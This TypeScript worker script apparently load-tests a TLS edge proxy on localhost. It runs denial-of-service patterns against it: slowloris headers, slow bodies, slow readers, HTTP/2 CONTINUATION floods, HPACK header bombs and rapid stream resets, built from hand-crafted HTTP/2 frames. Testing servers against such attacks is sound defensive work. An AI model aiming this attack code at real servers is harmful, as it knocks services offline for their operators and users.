import { createServer } from 'node:http';
import { connect as connectHttp2 } from 'node:http2';
import type { AddressInfo } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { type ConnectionOptions, connect, type TLSSocket } from 'node:tls';

/** What each of a crowd does, as slowly as it is let; whoever is thrown out comes again. */
export type Crowd =
  | 'heads'
  | 'bodies'
  | 'readers'
  | 'h2 heads'
  | 'h2 bodies'
  | 'h2 readers'
  | 'bombs'
  | 'resets';

export interface CrowdOptions {
  port: number;
  host: string;
  ca: string;
  crowd: Crowd;
  clients: number;
  /** In which they come, evenly. */
  arrivalMs: number;
}

export interface CrowdFigures {
  /** Connections that were made, and those that the edge ended. */
  made: number;
  ended: number;
}

const dripMs = 1_000;
/**
 * More than both connections of a client take in for it: over HTTP/1.1 the system's buffers, over HTTP/2 the window. Not much more: what the system
 * keeps for all of them counts for the whole machine, and slows down everybody once there is too much of it (`tcp_mem`).
 */
const largeBytes = { http1: 2_097_152, http2: 524_288 };
const streamsOfReader = 4;
/** So many clients come from one address. */
const clientsPerAddress = 200;
/** An attacker comes again after so long. */
const pauseMs = 500;

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const frameTypes = { headers: 1, reset: 3, settings: 4, continuation: 9 };

function frame(type: keyof typeof frameTypes, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = frameTypes[type];
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** SETTINGS_INITIAL_WINDOW_SIZE 0: nothing of an answer's body may come. */
const zeroWindow = frame('settings', 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
const endStream = 1;
const endHeaders = 4;

/** GET https:// of the static table (RFC 7541, appendix A), and the path and the authority as literals. */
function requestBlock(host: string, path = '/'): Buffer {
  const literal = (name: number, text: string) => Buffer.from([name, text.length, ...Buffer.from(text)]);
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, path), literal(0x01, host)]);
}

/** One field of 3,000 bytes put into the table, and then named again and again by one byte each. */
function bombBlock(host: string): Buffer {
  const value = Buffer.alloc(3_000, 'a');
  const length = Buffer.from([0x7f, ...integer(value.length - 127)]);
  const literal = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('x'), length, value]);
  return Buffer.concat([requestBlock(host), literal, Buffer.alloc(8_000, 0x80 | 62)]);
}

function integer(value: number): number[] {
  return value < 128 ? [value] : [(value & 127) | 128, ...integer(value >> 7)];
}

const options = JSON.parse(process.argv[2] ?? '{}') as CrowdOptions;
const { port, host, ca, crowd, clients, arrivalMs } = options;
const figures: CrowdFigures = { made: 0, ended: 0 };
let over = false;

const bombs = idsBelow(200).map((id) => frame('headers', endStream | endHeaders, id, bombBlock(host)));
const resets = idsBelow(2_000).flatMap((id) => [
  frame('headers', endStream | endHeaders, id, requestBlock(host)),
  frame('reset', 0, id, Buffer.from([0, 0, 0, 8])), // CANCEL
]);

function idsBelow(limit: number): number[] {
  return Array.from({ length: limit / 2 }, (_, index) => 2 * index + 1);
}
process.on('disconnect', () => process.exit(1));
process.on('message', (message) => {
  if (message === 'start') {
    start();
    return;
  }
  over = true;
  process.send!(figures, () => process.exit(0));
});

const large = Buffer.alloc(largeBytes.http1, 'z');
const upstream = createServer((request, response) => {
  request.on('error', () => {}).resume();
  if (request.url === '/http1') response.end(large);
  else if (request.url === '/http2') response.end(large.subarray(0, largeBytes.http2));
  else response.end('ok');
}).listen(0, '127.0.0.1');
upstream.once('listening', () => process.send!((upstream.address() as AddressInfo).port));

function start(): void {
  for (let index = 0; index < clients; index += 1) void client(index);
}

async function client(index: number): Promise<void> {
  await delay((index * arrivalMs) / clients);
  while (!over) {
    await once(index).catch(() => {});
    figures.ended += 1;
    await delay(pauseMs);
  }
}

/** Until the edge has ended it. */
async function once(index: number): Promise<void> {
  const localAddress = `127.0.1.${2 + Math.trunc(index / clientsPerAddress)}`;
  const overHttp2 = crowd.startsWith('h2') || crowd === 'bombs' || crowd === 'resets';
  const socket = connect({
    host: '127.0.0.1',
    port,
    localAddress,
    servername: host,
    ca,
    ALPNProtocols: [overHttp2 ? 'h2' : 'http/1.1'],
  } as ConnectionOptions); // which are passed on to `net.connect`
  const ended = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  socket.on('error', () => {});
  await new Promise<void>((resolve, reject) => {
    socket.once('secureConnect', resolve);
    socket.once('close', () => reject(new Error('no handshake')));
  });
  figures.made += 1;
  const act = actOf(socket);
  const drip = setInterval(act, dripMs);
  await ended;
  clearInterval(drip);
}

function actOf(socket: TLSSocket): () => void {
  const write = (data: string | Buffer) => void (socket.writable && socket.write(data));
  switch (crowd) {
    case 'heads':
      write(`GET / HTTP/1.1\r\nhost: ${host}\r\nx-slow: `);
      return () => write('a');
    case 'bodies':
      write(`POST / HTTP/1.1\r\nhost: ${host}\r\ncontent-length: 1000000\r\n\r\n`);
      return () => write('a');
    case 'readers':
      write(`GET /http1 HTTP/1.1\r\nhost: ${host}\r\n\r\n`);
      socket.pause();
      return () => {};
    case 'h2 heads':
      write(Buffer.concat([preface, frame('settings', 0, 0, Buffer.alloc(0))]));
      write(frame('headers', endStream, 1, requestBlock(host)));
      return () => write(frame('continuation', 0, 1, Buffer.from([0x00, 1, 0x78, 1, 0x61])));
    case 'h2 bodies': {
      const session = connectHttp2(`https://${host}`, { createConnection: () => socket });
      session.on('error', () => {});
      const stream = session.request({ ':method': 'POST', ':path': '/' });
      stream.on('error', () => {});
      return () => void (stream.writable && stream.write('a'));
    }
    case 'h2 readers':
      write(Buffer.concat([preface, zeroWindow]));
      for (const id of idsBelow(2 * streamsOfReader))
        write(frame('headers', endStream | endHeaders, id, requestBlock(host, '/http2')));
      socket.pause();
      return () => {};
    case 'bombs':
      write(Buffer.concat([preface, zeroWindow, ...bombs]));
      socket.resume();
      return () => {};
    case 'resets':
      write(Buffer.concat([preface, zeroWindow, ...resets]));
      socket.resume();
      return () => {};
  }
}
